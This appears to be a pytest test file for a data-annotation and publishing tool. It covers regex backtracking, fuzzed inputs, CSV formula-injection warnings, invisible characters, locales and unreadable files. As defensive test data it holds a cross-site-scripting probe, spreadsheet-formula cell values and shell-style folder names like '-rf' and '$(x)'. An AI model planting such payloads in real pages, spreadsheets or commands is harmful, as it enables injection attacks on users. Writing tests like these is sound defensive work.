CHECKED += [offsets, surrogates, fields, yaml_reader, subjects]
CHECKED += [sys.modules[name] for name in sorted({rule.function.__module__ for rule in RULES})]
ANCHORED = {"_PERSONS", "_PLURAL", "_COMMENT"}
"""Patterns that are held against a place or a whole word, never looked for in a text."""


def patterns() -> Iterator[tuple[str, re.Pattern[str]]]:
    """Give every compiled pattern of the modules that see what people wrote, and those of the models."""
    for module in CHECKED:
        for name, value in vars(module).items():
            listed = value if isinstance(value, tuple) else (value,)
            for item in (inner for entry in listed for inner in (entry if isinstance(entry, tuple) else (entry,))):
                if isinstance(item, re.Pattern):
                    yield name, item
    yield from (("FORMS", re.compile(pattern)) for pattern in fields.FORMS)


@pytest.mark.parametrize(("name", "pattern"), list(patterns()))
def test_no_pattern_backtracks(name: str, pattern: re.Pattern[str]) -> None:
    """One that does would be busy with these texts for longer than anybody waits."""
    for unit in LONG:
        text = unit * (20_000 // len(unit)) + "!"
        whole = pattern.fullmatch(text)
        assert whole is None or whole[0] == text
        if name not in ANCHORED:
            assert len(pattern.findall(text)) <= len(text)


# ---- arbitrary input ---------------------------------------------------------------------------------------

ANYTHING = settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def checked(root: Path) -> list[findings.Finding]:
    """Check a project as the command does; whatever is found can be written in every way."""
    found = found_in(root)
    for finding in found:
        assert finding.place.line >= 1
        assert finding.place.column >= 1
        json.dumps(findings.record(finding))
        assert findings.github(finding).count("\n") == 0
    assert sum(1 for _ in findings.lines(found, findings.text)) <= len(found) + 1
    return found


@ANYTHING
@given(data=st.binary(max_size=400))
def test_any_bytes_as_a_seed_give_findings_and_no_exception(copied: Path, data: bytes) -> None:
    (copied / SECOND).write_bytes(data)
    repin(copied, "901_second")
    assert checked(copied)


@ANYTHING
@given(text=st.text(st.sampled_from("ab 1,.-–“”\"'’()%$\n\r\t#\u2028\u00a0é\u0301🙂"), max_size=300))
def test_any_words_in_a_seed_give_findings_and_no_exception(copied: Path, text: str) -> None:
    path = copied / SECOND
    path.write_bytes((INVENTED / SECOND).read_bytes() + text.encode())
    repin(copied, "901_second")
    checked(copied)


@ANYTHING
@given(data=st.binary(max_size=60), at=st.integers(0, 2000), cut=st.integers(0, 60))
def test_any_bytes_in_the_middle_of_annotations_give_no_exception(copied: Path, data: bytes, at: int, cut: int) -> None:
    whole = (INVENTED / B).read_bytes()
    (copied / B).write_bytes(whole[:at] + data + whole[at + cut :])
    checked(copied)


YAML_BITS = [
    "- ",
    "a: ",
    "? ",
    "[",
    "]",
    "{",
    "}",
    ", ",
    "\n",
    "  ",
    "'",
    '"',
    "# ",
    "&a ",
    "*a ",
    "!t ",
    "|\n",
    ">-\n",
    "<<: ",
    "---\n",
    "%",
    "\\",
    "\t",
    "é",
    "\u2028",
]


@ANYTHING
@given(bits=st.lists(st.sampled_from(YAML_BITS), max_size=60))
def test_any_marks_of_yaml_give_no_exception(copied: Path, bits: list[str]) -> None:
    (copied / B).write_text("".join(bits), encoding="utf-8")
    assert checked(copied)


def paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Return the path of everything in what was typed."""
    children = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(inner for key, child in children for inner in paths(child, (*path, key)))]


TYPED = yaml.load((INVENTED / B).read_text(encoding="utf-8"), Loader=yaml.BaseLoader)  # noqa: S506  # text alone
SCALARS = st.text(max_size=12) | st.sampled_from(
    [
        "no",
        "1:30",
        "010",
        "1e9",
        "-1",
        ".nan",
        "2019-02-30",
        "XXXX-XX",
        "{2019}",
        "second-t1",
        "bruno-salt",
        "he",
        "repeat",
        "person",
    ]
)
VALUES = st.recursive(
    SCALARS | st.none(),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(SCALARS | st.sampled_from(["id", "use", "kind", "text"]), inner, max_size=3)
    ),
    max_leaves=5,
)


@ANYTHING
@given(
    where=st.lists(st.sampled_from(paths(TYPED)), min_size=1, max_size=3), new=st.lists(VALUES, min_size=3, max_size=3)
)
def test_nearly_sound_annotations_give_no_exception(copied: Path, where: list[tuple[Any, ...]], new: list[Any]) -> None:
    whole = copy.deepcopy(TYPED)
    for path, value in zip(where, new, strict=False):
        whole = replaced(whole, path, value)
    (copied / B).write_text(yaml.safe_dump(whole, allow_unicode=True, sort_keys=False), encoding="utf-8")
    checked(copied)


def replaced(whole: Any, path: tuple[Any, ...], value: Any) -> Any:
    """Return what was typed with something else at a path, if the path is still there."""
    if not path:
        return value
    there = (isinstance(whole, dict) and path[0] in whole) or (
        isinstance(whole, list) and isinstance(path[0], int) and path[0] < len(whole)
    )
    if there:
        whole[path[0]] = replaced(whole[path[0]], path[1:], value)
    return whole


# ---- consumers ---------------------------------------------------------------------------------------------


FORMULA = ("=", "+", "-", "@", "\t", "\r")
"""What a cell begins with that a spreadsheet takes for a formula (OWASP, CSV Injection)."""


def formulas(root: Path) -> set[tuple[str, str, str]]:
    """Return the cells of the published CSV that begin like a formula: table, key, column."""
    found = set()
    for path in (root / "dist/data").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.DictReader(file):
                key = next(iter(row.values()))
                found |= {(path.stem, key, column) for column, cell in row.items() if cell.startswith(FORMULA)}
    return found


def suspicious(root: Path) -> None:
    """Let many cells of many tables begin like a formula."""
    edit(root, SECOND, "The Harbour After the Keepers", "=The Harbour After the Keepers")
    edit(root, SECOND, "“Perhaps nobody,”", "“-Perhaps nobody,”")
    edit(root, SECOND, "A man who gave", "+A man who gave")
    edit(root, SECOND, "“Two keepers cannot serve an island,” reads", "@“Two keepers cannot serve an island,” reads")
    edit(
        root,
        SECOND,
        "The Harbour Office documented dozens of empty towers.",
        "=The Harbour Office documented -dozens of empty towers.",
    )
    edit(root, B, "title: The Harbour After", 'title: "=The Harbour After')
    edit(root, B, "the Keepers\n", 'the Keepers"\n')
    edit(root, B, "evidence: Perhaps nobody,", 'evidence: "-Perhaps nobody,"')
    edit(
        root,
        B,
        "evidence: The Harbour Office documented dozens of empty towers.",
        'evidence: "=The Harbour Office documented -dozens of empty towers."',
    )
    edit(root, B, "evidence: dozens of empty towers", 'evidence: "-dozens of empty towers"')
    edit(
        root, B, "evidence: A man who gave only the name Iven said", "evidence: +A man who gave only the name Iven said"
    )
    edit(
        root,
        B,
        'evidence: {text: "“Two keepers cannot serve an island,”", occurrence: 2}',
        'evidence: "@“Two keepers cannot serve an island,”"',
    )
    edit(root, B, "rights: Nobody", 'rights: Nobody\n  note: "- One.\\n- Two."')
    edit(root, B, "counted: towers that stand empty", 'counted: towers that stand empty\n    note: "- One."')
    edit(root, B, "    counted: keepers\n", '    counted: keepers\n    as_of: "-0100"\n')
    edit(root, A, "    operands: [example-f6]\n", '    operands: [example-f6]\n    note: "+ One."\n')
    edit(root, "annotations/comparisons.yaml", "note: Wanting", 'note: "- Wanting')
    edit(root, "annotations/comparisons.yaml", "not the same.\n", 'not the same."\n')
    edit(root, SPEAKERS, "    name: Harbour Office\n", '    name: Harbour Office\n    note: "- One."\n')
    repin(root, "901_second")


def test_a_build_names_every_published_cell_that_a_spreadsheet_would_run(project: Path, run: Run) -> None:
    suspicious(project)
    ran = run(project, "build")
    assert (ran.code, ran.err) == (0, ""), ran
    _, head, *named = told_of_findings(ran.out).splitlines()
    cells = formulas(project)
    written = {"sources", "testimonies", "figures", "spans", "waivers", "relations", "comparisons", "speakers"}
    assert {table for table, _, _ in cells} >= written
    assert head.startswith(f"{len(cells)} published cells begin like a formula.")
    assert head.endswith("import the CSV with every column as text:")
    told = {f"    {table}.csv: {column} of {row}" for table, row, column in cells}
    most = MOST_NAMED
    assert len(told) > most
    assert len(set(named[:most])) == most
    assert set(named[:most]) < told
    assert [line.split(".csv")[0] for line in named[:most]] == sorted(line.split(".csv")[0] for line in named[:most])
    assert named[most:] == [f"    and {len(told) - most} more"]


def test_check_says_nothing_of_such_cells_and_a_build_without_any_gives_no_advice(project: Path, run: Run) -> None:
    assert "like a formula" not in run(project, "build").out
    suspicious(project)
    assert "like a formula" not in run(project, "check").out
    assert json.loads(run(project, "check", "--format", "json").out).keys() == {"findings", "rules"}


def test_what_people_word_themselves_never_begins_like_a_formula() -> None:
    """A note that is a list is left its dashes; it is named like the articles' words are."""
    line = TypeAdapter(fields.Line)
    for typed in ("=1+1", "@SUM(1)", "-2+3", "+1", "- 2 degrees", "@handle"):
        with pytest.raises(ValidationError, match="A spreadsheet would run this"):
            line.validate_python(typed)
    for typed in ("2 - 3", "minus 2", "handle@example.org", "“-2”", "–2"):
        assert line.validate_python(typed) == typed


SEEN_ALIKE = ("\xad", "\u200b", "\u2028", "\u2029", "\u2060", "\ufdd0", "\ufffe", "\ue000", "\U000e0041", "\U0010ffff")


@pytest.mark.parametrize("kind", [fields.Line, fields.Note])
def test_nothing_invisible_is_typed(kind: Any) -> None:
    typed: TypeAdapter[str] = TypeAdapter(kind)
    for hidden in (*SEEN_ALIKE, "\u200c", "\u200d"):
        for words in (f"kee{hidden}pers", f"keepers{hidden}", f"{hidden}keepers"):
            with pytest.raises(ValidationError, match=rf"U\+{ord(hidden):04X} is not allowed here"):
                typed.validate_python(words)
    for words in (
        "\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "seen \U0001f469\u200d\U0001f680",
        "a \u2764\ufe0f\u200d\U0001f525",
    ):
        assert typed.validate_python(words) == words


@pytest.mark.parametrize("blank", [" ", "\u00a0", "\u3000"])
def test_a_line_has_no_blanks_at_its_ends(blank: str) -> None:
    line = TypeAdapter(fields.Line)
    for typed in (f"Mira Fenn{blank}", f"{blank}Mira Fenn"):
        with pytest.raises(ValidationError, match="without white space before or after"):
            line.validate_python(typed)
    assert line.validate_python(f"Mira{blank}Fenn") == f"Mira{blank}Fenn"


def test_the_package_says_how_to_open_it_in_a_spreadsheet(published: Path) -> None:
    assert "import dialogue" in (published / "dist/README.md").read_text(encoding="utf-8")


def test_html_in_a_note_is_published_as_it_was_typed_and_nowhere_else(project: Path, run: Run) -> None:
    html = "</script><script>alert(document.domain)</script><img src=x onerror=alert(1)>"
    note(f"'Of the line. {html}'")(project)
    assert run(project, "check").code == 0
    assert run(project, "build").code == 0
    files = (path for path in (project / "dist").rglob("*") if path.is_file())
    assert {path.parent.name for path in files if html.encode() in path.read_bytes()} == {"data"}
    with (project / "dist/data/sources.csv").open(encoding="utf-8", newline="") as file:
        assert any(html in row["note"] for row in csv.DictReader(file))


# ---- surroundings ------------------------------------------------------------------------------------------

COMMAND = [sys.executable, "-m", "defectors_data"]


def spawned(where: Path, *arguments: str, **surroundings: str | None) -> Ran:
    """Run a command in a process of its own, with other surroundings; None takes a variable away."""
    kept = {key: value for key, value in {**os.environ, **surroundings}.items() if value is not None}
    ran = subprocess.run([*COMMAND, *arguments], cwd=where, env=kept, capture_output=True, check=False)
    return Ran(ran.returncode, ran.stdout.decode(), ran.stderr.decode())


C_LOCALE = {"LANG": "C", "LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0", "PYTHONIOENCODING": None}


def test_a_plain_locale_changes_nothing(project: Path) -> None:
    edit(project, A, '"It’s quiet tonight,"', '"It\'s quiet tonight,"')
    ran = spawned(project, "check", **C_LOCALE)
    assert ran == spawned(project, "check")
    assert "’" in one_finding(ran)


@pytest.mark.parametrize("name", ["with spaces", "Büro – 事務所 🙂", "%23#?&;'\"$(x)", "-rf", "a\nb"])
def test_a_folder_may_be_called_anything(project: Path, tmp_path: Path, name: str) -> None:
    root = project.rename(tmp_path / name)
    assert spawned(root, "check", **C_LOCALE).code == 0
    words("two ins")(root)
    ran = spawned(tmp_path, "check", f"--root={name}")
    assert ran.code == 1
    assert ran.out.startswith(f"{findings.printable(name)}/{A}:143:15: evidence-not-found: ")


def test_a_file_may_have_a_name_that_is_no_utf_8(project: Path) -> None:
    shutil.copyfile(project / B, os.fsencode(project / "annotations") + b"/\xff.yaml")
    out = one_finding(spawned(project, "check"))
    assert out.startswith("annotations/<U+DCFF>.yaml:4:9: seed-name-mismatch: ")


def test_the_working_folder_may_be_any(project: Path, tmp_path: Path) -> None:
    words("two ins")(project)
    for where in (tmp_path, project / "seeds", Path("/")):
        ran = spawned(where, "check", "--root", str(project))
        assert ran.out.startswith(f"{os.path.relpath(project / A, where)}:143:15: evidence-not-found: ")


def test_nothing_is_written_at_home(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir(mode=0o500)
    places = {key: str(home) for key in ("HOME", "XDG_CACHE_HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "TMPDIR")}
    assert spawned(project, "check", **places).code == 0
    note("Of the line itself.")(project)
    assert spawned(project, "build", **places).out.startswith("dist: published\n")
    assert list(home.iterdir()) == []
    assert spawned(project, "check", HOME=None, XDG_CACHE_HOME=None).code == 0


@contextmanager
def nobody() -> Iterator[None]:
    """Be somebody whom files can be kept from; root may read everything."""
    if os.geteuid():
        yield
        return
    os.seteuid(65534)
    try:
        yield
    finally:
        os.seteuid(0)


@pytest.mark.parametrize("name", [SEED, A, "seeds", "annotations"])
def test_what_may_not_be_read_is_one_finding(name: str) -> None:
    with TemporaryDirectory() as above:
        root = Path(shutil.copytree(INVENTED, Path(above) / "project"))
        for path in (Path(above), root, *root.rglob("*")):
            path.chmod(0o755)
        (root / name).chmod(0)
        with nobody():
            found = found_in(root)
        (root / name).chmod(0o755)
    assert [(finding.place.file, finding.code) for finding in found] == [(name, "file-unreadable")]
